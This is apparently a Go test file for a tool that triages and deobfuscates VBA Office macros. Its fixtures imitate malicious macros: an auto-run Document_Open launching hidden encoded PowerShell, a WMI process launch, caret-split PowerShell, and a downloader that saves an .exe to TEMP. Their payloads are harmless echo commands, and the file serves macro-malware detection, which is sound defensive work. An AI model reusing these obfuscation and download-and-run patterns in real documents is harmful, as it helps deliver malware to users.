package vba

import (
	"encoding/base64"
	"fmt"
	"runtime"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
)

// encodedCommand returns PowerShell's -EncodedCommand form of cmd.
func encodedCommand(cmd string) string {
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// chrs spells s as Chr(n) & Chr(n) ….
func chrs(s string) string {
	var parts []string
	for _, c := range s {
		parts = append(parts, fmt.Sprintf("Chr(%d)", c))
	}
	return strings.Join(parts, " & ")
}

func TestFold(t *testing.T) {
	tests := []struct {
		name, in, want string
		changed        bool
	}{
		{"chr_concat", `x = Chr(112) & "ower" & "shell"`, `x = "powershell"`, true},
		{"chr_variants", `x = ChrW(80) + ChrB$(83) & Chr$(&H31)`, `x = "PS1"`, true},
		{"int_arithmetic", `x = Chr(100 + 12) & Chr((2 * 50) + 19) & Chr(120 Xor 15)`, `x = "pww"`, true},
		{"strreverse", `x = StrReverse("llehsrewop")`, `x = "powershell"`, true},
		{"replace_junk", `x = Replace("pZowZerZshZell", "Z", "")`, `x = "powershell"`, true},
		{"mid_huge_length", `x = Mid("abc", 2, 9223372036854775807)`, `x = "bc"`, true},
		{"case_and_slices", `x = LCase("POW") & Mid("xxershellxx", 3, 7) & Left("ab", 1)`, `x = "powershella"`, true},
		{"plus_with_number_not_string", `x = "a" + 1`, `x = "a" + 1`, false},
		{"plain_literal_unchanged", `MsgBox "hello"`, `MsgBox "hello"`, false},
		{"quotes_escaped", `x = Chr(34) & "q"`, `x = """q"`, true},
		{"call_parens_kept", `Set o = GetObject(Chr(119) & "inmgmts:")`, `Set o = GetObject("winmgmts:")`, true},
		{"comment_untouched", `x = 1 ' Chr(65) & "b"`, `x = 1 ' Chr(65) & "b"`, false},
		{"out_of_range_chr_kept", `x = Chr(300) & "a"`, `x = Chr(300) & "a"`, false},
		{"constant_propagation",
			"Sub A()\r\n  s = \"pow\": s = s & \"ersh\" & Chr(101) & \"ll\"\r\n  Shell s & \" -nop\", vbHide\r\nEnd Sub\r\n",
			"Sub A()\r\n  s = \"pow\": s = \"powershell\"\r\n  Shell \"powershell -nop\", vbHide\r\nEnd Sub\r\n", true},
		{"locals_reset_between_procedures",
			"Sub A()\r\n s = \"x\"\r\nEnd Sub\r\nSub B()\r\n MsgBox s\r\nEnd Sub",
			"Sub A()\r\n s = \"x\"\r\nEnd Sub\r\nSub B()\r\n MsgBox s\r\nEnd Sub", false},
		{"module_constant",
			"Const P = \"http://\"\r\nSub A()\r\n u = P & \"example.invalid/x\"\r\nEnd Sub",
			"Const P = \"http://\"\r\nSub A()\r\n u = \"http://example.invalid/x\"\r\nEnd Sub", true},
		{"non_constant_assignment_forgets", "s = \"a\"\r\ns = Foo()\r\nMsgBox s", "s = \"a\"\r\ns = Foo()\r\nMsgBox s", false},
		{"line_continuation", "x = \"pow\" & _\r\n \"ershell\"", `x = "powershell"`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, changed := Fold(tt.in)
			if got != tt.want || changed != tt.changed {
				t.Errorf("Fold(%q)\n got %q %v\nwant %q %v", tt.in, got, changed, tt.want, tt.changed)
			}
		})
	}
}

func TestFold_bounded(t *testing.T) {
	// Doubling a variable 40 times would make a terabyte string.
	var sb strings.Builder
	sb.WriteString("Sub A()\r\ns = \"0123456789abcdef\"\r\n")
	for range 40 {
		sb.WriteString("s = s & s\r\nMsgBox s & s & s\r\n")
	}
	sb.WriteString("End Sub\r\n")
	out, _ := Fold(sb.String())
	if len(out) > 8<<20 {
		t.Fatalf("folded output %d bytes", len(out))
	}
	// Deep nesting stays bounded too.
	deep := "x = " + strings.Repeat("(", 10000) + `"a"` + strings.Repeat(")", 10000)
	if out, _ := Fold(deep); !strings.HasPrefix(out, "x = ") {
		t.Fatalf("deep nesting: %.40q", out)
	}
}

func TestFold_replaceSizedBeforeBuilding(t *testing.T) {
	// Replace(64 KiB of "a", "a", 64 KiB) would be a 4 GiB string: it must
	// be left unfolded without being built.
	big := strings.Repeat("a", 60000)
	code := "x = Replace(\"" + big + "\", \"a\", \"" + big + "\")\r\n"
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	out, changed := Fold(code)
	runtime.ReadMemStats(&after)
	if changed || out != strings.TrimSuffix(code, "\r\n") && out != code {
		t.Fatalf("oversized Replace folded: changed=%v, %d bytes", changed, len(out))
	}
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 64<<20 {
		t.Fatalf("Fold allocated %d bytes for an oversized Replace", grew)
	}
	// A Replace whose result fits is still folded.
	if out, _ := Fold(`x = Replace("p-o-w", "-", "")`); out != `x = "pow"` {
		t.Fatalf("small Replace: %q", out)
	}
}

func TestAnalyze(t *testing.T) {
	b64 := encodedCommand("Write-Output 'TRIAGE-REGRESSION'")
	decoys := ""
	for i := range 12 {
		decoys += fmt.Sprintf("Function Decoy%d()\r\nDecoy%d = %d\r\nEnd Function\r\n", i, i, i)
	}
	tests := []struct {
		name string
		code string
		// checks
		autoExec   []string
		autoRun    bool
		categories []string
		mraptor    bool
		wmi        bool
		powershell bool
		encoded    string
		obfusc     []string // substrings expected among signals
		foldedURLs []string
	}{
		{
			name:       "emotet_document_open",
			code:       "Sub Document_Open()\r\n  Dim c\r\n  c = " + chrs("powershell") + " & \" -enc " + b64 + "\"\r\n  CreateObject(\"WScript.Shell\").Run c, 0\r\nEnd Sub\r\n",
			autoExec:   []string{"Document_Open"},
			autoRun:    true,
			categories: []string{"execute"},
			mraptor:    true,
			powershell: true,
			encoded:    "Write-Output 'TRIAGE-REGRESSION'",
			obfusc:     []string{"dense Chr() calls"},
		},
		{
			name:     "wmi_win32_process_folded",
			code:     "Sub AutoOpen()\r\nSet p = GetObject(Chr(119) & \"inmgmts:\\\\.\\root\\cimv2:\" & \"Win32_\" & \"Process\")\r\np.Create \"cmd /c echo TRIAGE-REGRESSION\", Null, Null, pid\r\nEnd Sub",
			autoExec: []string{"AutoOpen"}, autoRun: true, mraptor: true, wmi: true,
		},
		{
			name:       "caret_split_powershell",
			code:       "Sub Workbook_Open()\r\nShell \"cmd /c P^Ow^er^she^L^L -w hidden -ENCOD " + b64 + "\"\r\nEnd Sub",
			autoExec:   []string{"Workbook_Open"},
			autoRun:    true,
			categories: []string{"execute", "hide"},
			mraptor:    true,
			powershell: true,
			encoded:    "Write-Output 'TRIAGE-REGRESSION'",
		},
		{
			name:       "downloader_without_autoexec",
			code:       "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal a As Long) As Long\r\nSub Fetch()\r\nURLDownloadToFileA 0, \"http://\" & \"example.invalid/a.exe\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0\r\nEnd Sub",
			categories: []string{"dll_call", "download", "environment"},
			foldedURLs: []string{"http://example.invalid/a.exe"},
		},
		{
			name:       "file_write",
			code:       "Sub AutoClose()\r\nOpen \"C:\\x.bin\" For Binary As #1\r\nPut #1, , b\r\nWith CreateObject(\"ADODB.Stream\")\r\n.SaveToFile \"c:\\y\"\r\nEnd With\r\nEnd Sub",
			autoExec:   []string{"AutoClose"},
			autoRun:    true,
			categories: []string{"file_write"},
			mraptor:    true,
		},
		{
			name:     "button_click_only",
			code:     "Private Sub CommandButton1_Click()\r\nMsgBox \"hi\"\r\nEnd Sub",
			autoExec: []string{"CommandButton1_Click"},
		},
		{
			name:   "obfuscation_signals",
			code:   "Sub A()\r\nx = StrReverse(\"olleh\")\r\ny = Replace(\"aQQbQQcQQd\", \"QQ\", \"\")\r\nz = \"" + strings.Repeat("QUJDRGVmZ2gxMjM0", 8) + "\"\r\nEnd Sub\r\n" + decoys,
			obfusc: []string{"StrReverse", "Replace() removing junk", "long base64", "procedures are never called"},
		},
		{
			name: "benign",
			code: "Sub Format()\r\nRange(\"A1\").Value = \"Total\"\r\nEnd Sub",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := Analyze(tt.code)
			if diff := cmp.Diff(tt.autoExec, a.AutoExec); diff != "" {
				t.Errorf("AutoExec (-want +got):\n%s", diff)
			}
			if a.AutoRun != tt.autoRun {
				t.Errorf("AutoRun = %v", a.AutoRun)
			}
			for _, c := range tt.categories {
				if len(a.Suspicious[c]) == 0 {
					t.Errorf("category %q missing: %v", c, a.Suspicious)
				}
			}
			if tt.categories == nil && tt.name == "benign" && len(a.Suspicious) > 0 {
				t.Errorf("benign code flagged: %v", a.Suspicious)
			}
			if a.MRaptor() != tt.mraptor {
				t.Errorf("mraptor = %v (A=%v W=%v X=%v)", a.MRaptor(), a.A, a.W, a.X)
			}
			if strings.Contains(a.WMI, "Win32_Process") != tt.wmi {
				t.Errorf("WMI = %q", a.WMI)
			}
			if (a.PowerShell != "") != tt.powershell {
				t.Errorf("PowerShell = %q", a.PowerShell)
			}
			if tt.encoded != "" && !slices.Contains(a.EncodedCommands, tt.encoded) {
				t.Errorf("EncodedCommands = %q", a.EncodedCommands)
			}
			for _, want := range tt.obfusc {
				if !slices.ContainsFunc(a.Obfuscation, func(s string) bool { return strings.Contains(s, want) }) {
					t.Errorf("obfuscation signal %q missing: %q", want, a.Obfuscation)
				}
			}
			if tt.obfusc == nil && len(a.Obfuscation) > 0 {
				t.Errorf("unexpected obfuscation signals %q", a.Obfuscation)
			}
			if diff := cmp.Diff(tt.foldedURLs, a.FoldedURLs); diff != "" {
				t.Errorf("FoldedURLs (-want +got):\n%s", diff)
			}
		})
	}
}

func TestMRaptorFlags(t *testing.T) {
	tests := []struct {
		code    string
		a, w, x bool
	}{
		{"Sub AutoOpen()\r\nEnd Sub", true, false, false},
		{"Sub X()\r\nKill \"a\"\r\nEnd Sub", false, true, false},
		{"Sub X()\r\nShell \"a\"\r\nEnd Sub", false, false, true},
		{"Private Declare Function F Lib \"k32\" ()", false, false, true},
		// "Call" is a VBA statement, not Excel 4's CALL.
		{"Sub X()\r\nCall Y\r\nEnd Sub", false, false, false},
	}
	for _, tt := range tests {
		a, w, x := MRaptorFlags(tt.code)
		if a != tt.a || w != tt.w || x != tt.x {
			t.Errorf("MRaptorFlags(%q) = %v %v %v, want %v %v %v", tt.code, a, w, x, tt.a, tt.w, tt.x)
		}
	}
}
